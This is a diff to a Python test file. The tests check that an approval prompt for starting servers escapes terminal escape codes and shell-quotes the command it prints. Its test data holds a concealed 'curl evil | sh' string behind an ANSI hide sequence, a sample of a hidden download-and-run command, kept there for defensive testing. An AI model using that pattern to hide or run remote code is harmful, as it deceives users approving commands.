@@ -103,6 +103,11 @@ def test_the_approval_question_of_up_shows_every_character_of_what_would_run(tmp
     text = out.getvalue()
     assert ESC not in text
     assert "srv[/u]\\u001bx" in text and "safe\\u001b[8m; curl evil | sh" in text  # nothing concealed
+    # the command it prints to approve later shows every character, and pasted into a shell names that server
+    quoted = "$'srv[/u]\\x1bx'"
+    assert text.rstrip().endswith(quoted)
+    pasted = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True).stdout
+    assert pasted.decode() == specs[0].name
 
 
 def test_a_bidi_override_in_an_mcp_command_is_shown_not_obeyed() -> None:
